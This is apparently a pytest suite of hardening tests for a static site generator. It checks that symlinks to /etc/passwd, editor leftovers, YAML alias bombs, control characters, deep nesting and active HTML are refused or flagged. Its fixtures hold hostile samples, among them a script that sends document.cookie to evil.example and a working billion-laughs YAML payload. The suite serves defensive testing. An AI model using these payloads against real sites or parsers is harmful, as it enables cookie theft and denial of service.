"""Attacks on the build through content/, as a careless editor makes them, and what stops each.

Each test reproduces one finding of the hardening review: the file that must not reach
site/, the check that must name the file and line, the bound that must hold.
"""

from __future__ import annotations

import resource
import socket
import subprocess
import time
import urllib.error
import urllib.request
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest

from generator.site.feed_formats import atom_entry
from generator.site.feeds import ATOM, Author, FeedEntry
from tests.hardening.buildkit import HUB, hub_env
from tests.hardening.contentkit import PRIVATE_EMAIL, VALID_HUB, cpu_time, hub_cli, make_hub, site_files

LINKED = "a symbolic link: links are never followed nor published; put the file itself here"
HOST_SECRET = "host-only-secret-4821"


def content_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("content/")]


# --- 1. Symlinks: never followed, never published -----------------------------------------


def add_links(root: Path, outside: Path) -> None:
    """The three links of the finding: a file in media/, a folder in media/, a file at the top."""
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text(HOST_SECRET, encoding="utf-8")
    (outside / "keys").mkdir(exist_ok=True)
    (outside / "keys" / "id.txt").write_text(HOST_SECRET, encoding="utf-8")
    content = root / "content"
    (content / "media" / "passwd.txt").symlink_to("/etc/passwd")
    (content / "media" / "host").symlink_to(outside / "keys", target_is_directory=True)
    (content / "secret.txt").symlink_to(outside / "secret.txt")


LINK_ERRORS = [f"content/media/host: {LINKED}", f"content/media/passwd.txt: {LINKED}", f"content/secret.txt: {LINKED}"]


def test_symlinks_are_errors_for_check_and_build_and_nothing_they_point_at_is_published(tmp_path: Path):
    root = tmp_path / "hub"
    make_hub(root)
    first = hub_cli(root, "build")
    assert first.returncode == 0, first.stderr
    before = {name: (root / "site" / name).read_bytes() for name in site_files(root / "site")}
    add_links(root, tmp_path / "host")

    check = hub_cli(root, "check")
    assert check.returncode == 1
    assert content_lines(check.stderr) == LINK_ERRORS
    build = hub_cli(root, "build")
    assert build.returncode == 1
    assert content_lines(build.stderr) == LINK_ERRORS
    assert "Traceback" not in check.stderr + build.stderr
    # The failed build left the last site as it was: nothing from the host in it.
    after = {name: (root / "site" / name).read_bytes() for name in site_files(root / "site")}
    assert after == before
    assert not any(HOST_SECRET.encode() in data or b"root:x:0:0" in data for data in after.values())


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def fetch(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=5) as response:  # noqa: S310 (loopback only)
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def wait_for(url: str, wanted: bytes, seconds: float) -> bytes:
    """The page at `url` once it holds `wanted`; fails after `seconds`."""
    deadline = time.monotonic() + seconds
    body = b""
    while time.monotonic() < deadline:
        try:
            status, body = fetch(url)
            if status == 200 and wanted in body:
                return body
        except OSError:
            pass  # not listening yet
        time.sleep(0.3)
    raise AssertionError(f"{url} never showed {wanted!r} within {seconds} s; last: {body[:200]!r}")


def test_serve_never_serves_a_linked_file(tmp_path: Path):
    root = tmp_path / "hub"
    make_hub(root)
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    log = (tmp_path / "serve.log").open("w+", encoding="utf-8")  # a file: a full pipe would stall the server
    server = subprocess.Popen([str(HUB), "serve", "--port", str(port)], cwd=root, env=hub_env(),  # noqa: S603
                              stdout=log, stderr=subprocess.STDOUT)  # fmt: skip
    try:
        wait_for(base, b"Work permits for partners", 180)
        add_links(root, tmp_path / "host")
        page = wait_for(base, b"symbolic link", 60)  # the preview shows the error on every page
        assert b"content/media/passwd.txt" in page
        for path in ("media/passwd.txt", "media/host/id.txt", "secret.txt"):
            status, body = fetch(base + path)
            assert status == 404, path
            assert b"root:x:0:0" not in body and HOST_SECRET.encode() not in body
    finally:
        server.terminate()
        server.wait(timeout=30)
        log.close()
    assert "Traceback" not in (tmp_path / "serve.log").read_text(encoding="utf-8")


# --- 2. Leftovers, stray files, unknown folders: reported and never copied -----------------

PROFILE_COPY = VALID_HUB["people/ana.md"]
LEFTOVERS = {
    "people/ana.md~": PROFILE_COPY,
    "people/#ana.md#": PROFILE_COPY,
    "people/ana.md.bak": PROFILE_COPY,
    "people/ana.md.orig": PROFILE_COPY,
    "people/.ana.md.swp": PROFILE_COPY,
    "people/notes.txt": f"Call Ana on Tuesday: {PRIVATE_EMAIL}\n",
    "notes/secret.md": """\
        ---
        title: Salary notes
        draft: true
        ---
        SECRET-NOTE: the budget for next year.
        """,
    "fr/articles/x.md": """\
        ---
        title: Permis de travail
        date: 2030-01-01
        authors: [ana]
        topics: [partner-career]
        lang: fr
        ---
        SECRET-NOTE: pas encore publié.
        """,
}
NEVER = "never published"
LEFTOVER_WARNINGS = sorted([
    *(f"content/{path}: warning: an editor's backup or leftover: {NEVER}; delete it"
      for path in ("people/ana.md~", "people/#ana.md#", "people/ana.md.bak", "people/ana.md.orig")),
    f"content/people/.ana.md.swp: warning: an editor's backup or leftover: {NEVER}; delete it",
    f"content/people/notes.txt: warning: not part of the content format in people/: {NEVER}",
    f"content/notes/secret.md: warning: in notes/, a folder the content format doesn't know: {NEVER}",
    f"content/fr/articles/x.md: warning: in fr/, a folder the content format doesn't know: {NEVER}; "
    "a translation lives in articles/ beside its original, with lang: fr and translation_of:",
])  # fmt: skip


@pytest.fixture(scope="module")
def leftover_hub(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("leftovers")
    make_hub(root, LEFTOVERS)
    return root


def test_leftovers_are_reported_by_check_and_fail_it_when_strict(leftover_hub: Path):
    check = hub_cli(leftover_hub, "check")
    assert check.returncode == 0, check.stderr
    assert sorted(content_lines(check.stderr)) == LEFTOVER_WARNINGS
    strict = hub_cli(leftover_hub, "check", "--strict")
    assert strict.returncode == 1
    assert strict.stderr.splitlines()[-1] == f"{len(LEFTOVER_WARNINGS)} warning(s), failing in strict mode"


def test_leftovers_never_reach_the_site_nor_the_sitemap(leftover_hub: Path):
    build = hub_cli(leftover_hub, "build", "--no-strict", timeout=180)
    assert build.returncode == 0, build.stderr
    site = leftover_hub / "site"
    files = site_files(site)
    assert "media/photo.svg" in files and "articles/ok/index.html" in files  # what the contract names is there
    for name in files:
        assert not name.startswith(("people/ana.md", "people/#", "people/.", "notes/", "fr/")), name
        assert not name.endswith((".txt", "~", ".bak", ".orig", ".swp", ".md", ".yml")) or name == "robots.txt", name
        data = (site / name).read_bytes()
        assert PRIVATE_EMAIL.encode() not in data and b"SECRET-NOTE" not in data, name
    sitemap = (site / "sitemap.xml").read_text(encoding="utf-8")
    assert "/notes/" not in sitemap and "/fr/" not in sitemap and "articles/ok/" in sitemap


def test_index_in_a_section_is_an_error(tmp_path: Path):
    make_hub(tmp_path, {"people/index.md": "---\nname: Index\nroles: [author]\n---\nNobody.\n"})
    check = hub_cli(tmp_path, "check")
    assert check.returncode == 1
    assert content_lines(check.stderr) == [
        "content/people/index.md: the name 'index' is taken by the section's own page /people/: rename the file"
    ]


# --- 4. A YAML alias bomb in front matter -------------------------------------------------


def alias_bomb() -> bytes:
    """434 bytes: nine nested anchors of nine aliases (9**9 values once expanded)."""
    names = "abcdefghi"
    lines = ["---", "title: Nine times nine", "date: 2025-11-12", "authors: [ana]", "topics: [integration]",
             "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]  # fmt: skip
    lines += [f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]"
              for before, name in zip(names, names[1:], strict=False)]  # fmt: skip
    text = "\n".join([*lines, "---", "Body.", ""]).encode()
    return text + b"x" * (434 - len(text) - 1) + b"\n"


def test_an_alias_bomb_is_refused_in_bounded_time_and_memory(tmp_path: Path):
    make_hub(tmp_path)
    bomb = alias_bomb()
    assert len(bomb) == 434
    (tmp_path / "content" / "articles" / "bomb.md").write_bytes(bomb)

    def one_gigabyte() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    check, seconds = cpu_time(lambda: subprocess.run(
        [str(HUB), "check"], cwd=tmp_path, env=hub_env(), capture_output=True, text=True,  # noqa: S603
        timeout=60, check=False, preexec_fn=one_gigabyte,
    ))  # fmt: skip
    assert seconds < 5
    assert check.returncode == 1
    assert content_lines(check.stderr) == [
        "content/articles/bomb.md:7: invalid YAML: an alias *a repeats a value written elsewhere; "
        "aliases are not allowed here: write each value out"
    ]


@pytest.mark.parametrize("command", ["check", "build"])
def test_an_alias_bomb_in_mkdocs_yml_is_refused_in_bounded_time_and_memory(tmp_path: Path, command: str):
    config = make_hub(tmp_path)
    names = "abcdefghi"
    bomb = ["  a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    bomb += [f"  {name}: &{name} [{','.join([f'*{before}'] * 9)}]"
             for before, name in zip(names, names[1:], strict=False)]  # fmt: skip
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("extra:\n", "extra:\n" + "\n".join(bomb) + "\n", 1), encoding="utf-8")

    def one_gigabyte() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    run, seconds = cpu_time(lambda: subprocess.run(
        [str(HUB), command], cwd=tmp_path, env=hub_env(), capture_output=True, text=True,  # noqa: S603
        timeout=60, check=False, preexec_fn=one_gigabyte,
    ))  # fmt: skip
    assert seconds < 5
    assert run.returncode == 1
    line = text.splitlines().index("extra:") + 3  # the first alias: *a, on the bomb's second line
    assert run.stderr.strip().splitlines()[-1] == (
        f"{config}:{line}: invalid YAML: the aliases (the first: *a) expand to more than 100,000 values, "
        "or into themselves: write the values out"
    )
    assert not (tmp_path / "site").exists()


def test_ordinary_anchors_in_mkdocs_yml_still_build(tmp_path: Path):
    config = make_hub(tmp_path)
    text = config.read_text(encoding="utf-8")
    shared = "  shared: &shared {kind: note}\n  again: *shared\n  and_again: [*shared, *shared]\n"
    config.write_text(text.replace("extra:\n", "extra:\n" + shared, 1), encoding="utf-8")
    built = hub_cli(tmp_path, "build")
    assert built.returncode == 0, built.stderr
    assert (tmp_path / "site" / "index.html").is_file()


# --- 5. Control characters in a body ------------------------------------------------------


def test_control_characters_in_a_body_are_refused_with_their_line(tmp_path: Path):
    article = "---\ntitle: Colours\ndate: 2025-11-12\nauthors: [ana]\ntopics: [integration]\n---\nFine.\n\n{}\n"
    make_hub(tmp_path, {"articles/esc.md": article.format("Red \x1b[31mtext"),
                        "articles/nul.md": article.format("A \x00 byte")})  # fmt: skip
    check = hub_cli(tmp_path, "check")
    assert check.returncode == 1
    assert content_lines(check.stderr) == [
        "content/articles/esc.md:9: body: expected text without control characters, got U+001B",
        "content/articles/nul.md:9: body: expected text without control characters, got U+0000",
    ]


def test_atom_entries_stay_well_formed_whatever_a_body_holds():
    hostile = "".join(chr(code) for code in range(32)) + "\x7f\ud800\ufffe\uffff <b>&amp;</b> ]]>"
    moment = datetime(2025, 11, 12, tzinfo=UTC)
    entry = FeedEntry("article", "https://hub.test/articles/a/", f"Title {hostile}", f"Summary {hostile}",
                      f"<p>{hostile}</p>", moment, moment, "en", (Author(f"Ana {hostile}", None),), (), ())  # fmt: skip
    head = f'<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="{ATOM}">\n'.encode()
    feed = head + atom_entry(entry) + b"</feed>\n"
    root = ET.fromstring(feed)  # raises on anything XML cannot carry
    content = root.find(f"{{{ATOM}}}entry/{{{ATOM}}}content")
    assert content is not None and content.text == "<p>\t\n\n\x7f <b>&amp;</b> ]]></p>"
    parsed = feedparser.parse(feed)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.entries[0].title.startswith("Title")


# --- 6. Nesting too deep to render --------------------------------------------------------


@pytest.mark.parametrize("levels", [600, 2000])
def test_deep_nesting_is_a_clear_error_not_a_recursion_traceback(tmp_path: Path, levels: int):
    body = "".join("    " * level + "- item\n" for level in range(levels))
    article = f"---\ntitle: Deep\ndate: 2025-11-12\nauthors: [ana]\ntopics: [integration]\n---\n{body}"
    make_hub(tmp_path, {"articles/deep.md": article})
    expected = ["content/articles/deep.md:39: body: nested more than 32 levels (lists, quotes or HTML blocks): "
                "expected fewer levels"]  # fmt: skip
    check, check_seconds = cpu_time(lambda: hub_cli(tmp_path, "check", timeout=120))
    build, build_seconds = cpu_time(lambda: hub_cli(tmp_path, "build", timeout=120))
    assert check_seconds < 5 and build_seconds < 10
    for result in (check, build):
        assert result.returncode == 1
        assert content_lines(result.stderr) == expected
        assert "RecursionError" not in result.stderr and "Traceback" not in result.stderr


def test_inline_nesting_past_the_renderer_is_a_clear_build_error(tmp_path: Path):
    """Emphasis inside emphasis a thousand times: not a block level hub check counts, so the build says it."""
    body = "**a " * 1000 + "x" + " a**" * 1000 + "\n"
    make_hub(tmp_path, {"articles/deep.md": f"---\ntitle: Deep\ndate: 2025-11-12\nauthors: [ana]\n"
                                            f"topics: [integration]\n---\n{body}"})  # fmt: skip
    build, seconds = cpu_time(lambda: hub_cli(tmp_path, "build", timeout=120))
    assert seconds < 10
    assert build.returncode == 1
    assert content_lines(build.stderr) == ["content/articles/deep.md: body: nested too deeply to render: expected "
                                           "fewer levels of emphasis, links, lists or quotes"]  # fmt: skip
    assert "RecursionError" not in build.stderr and "Traceback" not in build.stderr


# --- 12. Raw HTML that runs in a reader's browser -----------------------------------------

ACTIVE_BODY = """\
Read on.

<script>fetch('https://evil.example/?c=' + document.cookie)</script>

<img src="x.png" onerror="alert(1)">

<iframe src="https://evil.example/"></iframe>

[Click](javascript:alert(1))

A paragraph with a handler.
{ onclick="alert(1)" }

```html
<script>shown as code, never run</script>
```
"""


def test_active_html_is_a_warning_naming_file_and_line_and_an_error_when_strict(tmp_path: Path):
    article = f"---\ntitle: Pasted\ndate: 2025-11-12\nauthors: [ana]\ntopics: [integration]\n---\n{ACTIVE_BODY}"
    make_hub(tmp_path, {"articles/pasted.md": article})
    advice = "remove it, or ask for it in the theme instead"
    expected = [
        f"content/articles/pasted.md:{line}: warning: body: raw HTML that runs in readers' browsers ({what}): {advice}"
        for line, what in ((9, "a <script> element"), (11, "an onerror= handler"), (13, "a <iframe> element"),
                           (15, "a javascript: link"), (18, "an onclick= handler"))
    ]  # fmt: skip
    check = hub_cli(tmp_path, "check")
    assert check.returncode == 0, check.stderr
    assert content_lines(check.stderr) == expected
    strict = hub_cli(tmp_path, "check", "--strict")
    assert strict.returncode == 1
    assert content_lines(strict.stderr) == expected
